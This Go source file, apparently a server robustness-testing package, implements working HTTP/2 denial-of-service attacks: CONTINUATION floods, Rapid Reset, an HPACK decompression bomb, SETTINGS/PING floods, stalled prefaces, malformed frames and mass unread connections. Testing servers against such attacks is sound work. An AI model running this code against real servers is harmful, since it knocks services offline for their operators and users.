package h2attack

import (
	"bytes"
	"context"
	"errors"
	"fmt"
	"strings"
	"sync"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// Attacks that make the server work rather than hold: floods of frames or
// connections, header blocks that never end or decode large, resets as
// fast as streams open, oversized and malformed frames.

// ContinuationOptions shape Continuation.
type ContinuationOptions struct {
	// Conns is the connections at once (default 1).
	Conns int
	// FrameSize is each CONTINUATION frame's payload (default 16 KiB,
	// HTTP/2's default largest frame).
	FrameSize int
}

// Continuation starts a call's headers without END_HEADERS, then sends
// CONTINUATION frames of valid header fields for ever, as fast as the
// server reads them. A server must bound a header block and close the
// connection; a connection it closes is dialed again.
func Continuation(ctx context.Context, addr string, o ContinuationOptions) Result {
	o.Conns = orDefault(o.Conns, 1)
	o.FrameSize = orDefault(o.FrameSize, 16<<10)
	rec := newRecorder()
	fragment := continuationFragment(o.FrameSize)
	repeat(ctx, addr, rec, o.Conns, func(c *conn) {
		var id uint32
		err := c.send(func() error {
			id = c.newID()
			c.hbuf.Reset()
			c.writeHeaders("")
			return c.fr.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: c.hbuf.Bytes()})
		})
		for err == nil {
			err = c.send(func() error { return c.fr.WriteContinuation(id, false, fragment) })
		}
	})
	return rec.result()
}

// continuationFragment is a header block fragment of at most size bytes:
// literal fields never indexed, with names of their own, which decode the
// same whatever the connection's header table holds.
func continuationFragment(size int) []byte {
	var frag, field bytes.Buffer
	enc := hpack.NewEncoder(&field)
	for i := 0; ; i++ {
		field.Reset()
		enc.WriteField(hpack.HeaderField{Name: fmt.Sprintf("x-continuation-%d", i), Value: strings.Repeat("c", 64), Sensitive: true})
		if frag.Len()+field.Len() > size {
			return frag.Bytes()
		}
		frag.Write(field.Bytes())
	}
}

// RapidResetOptions shape RapidReset.
type RapidResetOptions struct {
	Call Call
	// Conns is the connections at once (default 1).
	Conns int
	// Message sends each call's whole message before its reset, so that
	// a server may start deciding it; otherwise the reset follows the
	// headers.
	Message bool
}

// RapidReset opens calls and resets each at once, in a loop as fast as
// the server reads: a reset call stops counting against the server's
// stream limit, while the work it started may go on.
func RapidReset(ctx context.Context, addr string, o RapidResetOptions) Result {
	o.Conns = orDefault(o.Conns, 1)
	rec := newRecorder()
	msg, err := o.Call.message(0)
	if err != nil {
		rec.fail(err)
		return rec.result()
	}
	repeat(ctx, addr, rec, o.Conns, func(c *conn) {
		for {
			err := c.send(func() error {
				for range 64 {
					id, err := c.openStream("", false)
					if err != nil {
						return err
					}
					if o.Message {
						if err := c.fr.WriteData(id, true, msg); err != nil {
							return err
						}
					}
					if err := c.fr.WriteRSTStream(id, http2.ErrCodeCancel); err != nil {
						return err
					}
				}
				return nil
			})
			if err != nil {
				return
			}
			c.takeEnded()
		}
	})
	return rec.result()
}

// HPACKBombOptions shape HPACKBomb.
type HPACKBombOptions struct {
	Call Call
	// Conns is the connections at once (default 1).
	Conns int
	// ValueSize is the bomb field's value (default 4,000 bytes, within the
	// default 4 KiB header table).
	ValueSize int
	// BlockSize is each header block's size (default just under 16 KiB,
	// HTTP/2's default largest frame).
	BlockSize int
}

// HPACKBomb sends calls whose header block adds one large field to the
// header table and then refers to it, one byte a reference, until the
// block is full: each block decodes to thousands of times its size. Each
// call's message follows, so that a server which takes the headers
// answers the call.
func HPACKBomb(ctx context.Context, addr string, o HPACKBombOptions) Result {
	o.Conns = orDefault(o.Conns, 1)
	o.ValueSize = orDefault(o.ValueSize, 4000)
	o.BlockSize = orDefault(o.BlockSize, 16<<10-64)
	rec := newRecorder()
	msg, err := o.Call.message(0)
	if err != nil {
		rec.fail(err)
		return rec.result()
	}
	bomb := hpack.HeaderField{Name: "x-bomb", Value: strings.Repeat("b", o.ValueSize)}
	repeat(ctx, addr, rec, o.Conns, func(c *conn) {
		for {
			err := c.send(func() error {
				id := c.newID()
				c.hbuf.Reset()
				c.writeHeaders("")
				// The encoder indexes the field the first time, then
				// refers to it.
				for c.hbuf.Len() < o.BlockSize {
					c.henc.WriteField(bomb)
				}
				err := c.fr.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: c.hbuf.Bytes(), EndHeaders: true})
				if err != nil {
					return err
				}
				return c.fr.WriteData(id, true, msg)
			})
			if err != nil {
				return
			}
			c.takeEnded()
		}
	})
	return rec.result()
}

// FloodFrame is the frame a Flood sends.
type FloodFrame int

const (
	// FloodSettings sends SETTINGS frames, each of which the server must
	// acknowledge.
	FloodSettings FloodFrame = iota
	// FloodPing sends PING frames, each of which the server must answer.
	FloodPing
)

func (f FloodFrame) String() string {
	if f == FloodPing {
		return "PING"
	}
	return "SETTINGS"
}

// FloodOptions shape Flood.
type FloodOptions struct {
	// Peers is the connections at once (default 64).
	Peers int
	// Frame is what they send.
	Frame FloodFrame
}

// Flood has peers that send frames the server must answer, as fast as it
// reads them, and never read a byte: the answers wait in the server's
// buffers, and a server that does not bound them (or stop reading) holds
// memory for every peer. A connection the server closes is dialed again.
func Flood(ctx context.Context, addr string, o FloodOptions) Result {
	o.Peers = orDefault(o.Peers, 64)
	rec := newRecorder()
	redial(ctx, addr, rec, o.Peers, dialOptions{mode: readNone}, func(c *conn) {
		var ping [8]byte
		for {
			err := c.send(func() error {
				for range 256 {
					var err error
					if o.Frame == FloodPing {
						ping[7]++
						err = c.fr.WritePing(false, ping)
					} else {
						err = c.fr.WriteSettings(http2.Setting{ID: http2.SettingMaxHeaderListSize, Val: 16 << 10})
					}
					if err != nil {
						return err
					}
				}
				return nil
			})
			if err != nil {
				return
			}
		}
	})
	return rec.result()
}

// PrefaceOnlyOptions shape PrefaceOnly.
type PrefaceOnlyOptions struct {
	// Conns is the connections at once (default 1).
	Conns int
}

// PrefaceOnly sends the client preface's 24-byte magic and nothing more,
// not even the SETTINGS frame that must follow it: a server must close
// the connection when its handshake does not end in time. A connection
// it closes is dialed again.
func PrefaceOnly(ctx context.Context, addr string, o PrefaceOnlyOptions) Result {
	o.Conns = orDefault(o.Conns, 1)
	rec := newRecorder()
	redial(ctx, addr, rec, o.Conns, dialOptions{mode: readQuiet, prefaceOnly: true}, func(c *conn) {
		select {
		case <-c.done:
		case <-ctx.Done():
		}
	})
	return rec.result()
}

// OversizedFrameOptions shape OversizedFrame.
type OversizedFrameOptions struct {
	// Size is the DATA frame's payload (default one byte more than the
	// server's SETTINGS_MAX_FRAME_SIZE).
	Size int
	// Interval paces the connections (default 50 ms).
	Interval time.Duration
}

// OversizedFrame opens a call and sends a DATA frame longer than the
// server's SETTINGS_MAX_FRAME_SIZE: a FRAME_SIZE_ERROR, which a server
// answers with GOAWAY and a close. Each connection waits for its close
// before the next is dialed.
func OversizedFrame(ctx context.Context, addr string, o OversizedFrameOptions) Result {
	o.Interval = orDefault(o.Interval, 50*time.Millisecond)
	rec := newRecorder()
	oneShot(ctx, addr, rec, o.Interval, func(c *conn) error {
		id, err := c.openStream("", false)
		if err != nil {
			return err
		}
		size := orDefault(o.Size, int(c.maxFrame.Load())+1)
		return c.fr.WriteRawFrame(http2.FrameData, 0, id, make([]byte, size))
	})
	return rec.result()
}

// InvalidFrame is a frame HTTP/2 makes a connection error.
type InvalidFrame int

const (
	// DataOnStreamZero is a DATA frame on the connection's stream 0.
	DataOnStreamZero InvalidFrame = iota
	// HeadersOnEvenStream opens a call on an even (server's) stream id.
	HeadersOnEvenStream
	// WindowUpdateZero is a connection WINDOW_UPDATE of increment 0.
	WindowUpdateZero
)

func (f InvalidFrame) String() string {
	switch f {
	case DataOnStreamZero:
		return "DATA on stream 0"
	case HeadersOnEvenStream:
		return "HEADERS on an even stream"
	case WindowUpdateZero:
		return "WINDOW_UPDATE of 0"
	}
	return fmt.Sprintf("InvalidFrame(%d)", int(f))
}

// InvalidOptions shape Invalid.
type InvalidOptions struct {
	Frame InvalidFrame
	// Interval paces the connections (default 50 ms).
	Interval time.Duration
}

// Invalid sends a frame HTTP/2 makes a connection error (PROTOCOL_ERROR),
// which a server answers with GOAWAY and a close. Each connection waits
// for its close before the next is dialed.
func Invalid(ctx context.Context, addr string, o InvalidOptions) Result {
	o.Interval = orDefault(o.Interval, 50*time.Millisecond)
	rec := newRecorder()
	oneShot(ctx, addr, rec, o.Interval, func(c *conn) error {
		switch o.Frame {
		case DataOnStreamZero:
			return c.fr.WriteData(0, false, []byte("x"))
		case HeadersOnEvenStream:
			c.rec.streams.Add(1)
			return c.fr.WriteHeaders(http2.HeadersFrameParam{StreamID: 2, BlockFragment: c.headers(""), EndHeaders: true, EndStream: true})
		case WindowUpdateZero:
			return c.fr.WriteWindowUpdate(0, 0)
		}
		return fmt.Errorf("unknown invalid frame %d", int(o.Frame))
	})
	return rec.result()
}

// UnreadOptions shape Unread.
type UnreadOptions struct {
	Call Call
	// Peers is the connections, all dialed at once (default 1000).
	Peers int
	// Calls is the whole calls each peer sends (default 100).
	Calls int
}

// Unread dials its peers all at once; each sends its calls whole and a
// PING, never reads a byte, and keeps its connection open until ctx ends:
// the server's answers wait in its buffers for every peer, and what it
// holds grows with the connections it lets in. A connection the server
// closes is not dialed again.
func Unread(ctx context.Context, addr string, o UnreadOptions) Result {
	o.Peers = orDefault(o.Peers, 1000)
	o.Calls = orDefault(o.Calls, 100)
	rec := newRecorder()
	msg, err := o.Call.message(0)
	if err != nil {
		rec.fail(err)
		return rec.result()
	}
	var wg sync.WaitGroup
	for range o.Peers {
		wg.Go(func() {
			c, err := dial(ctx, addr, rec, dialOptions{mode: readNone})
			switch {
			case errors.Is(err, errClosedAtOnce):
				return // refused past its bound: counted as the server's close
			case err != nil:
				if ctx.Err() == nil {
					rec.fail(err)
				}
				return
			}
			defer c.close()
			err = c.send(func() error {
				for range o.Calls {
					id, err := c.openStream("", false)
					if err != nil {
						return err
					}
					if err := c.fr.WriteData(id, true, msg); err != nil {
						return err
					}
				}
				return c.fr.WritePing(false, [8]byte{})
			})
			if err != nil {
				return // the server closed it, which send counted
			}
			select {
			case <-c.done:
			case <-ctx.Done():
			}
		})
	}
	wg.Wait()
	return rec.result()
}
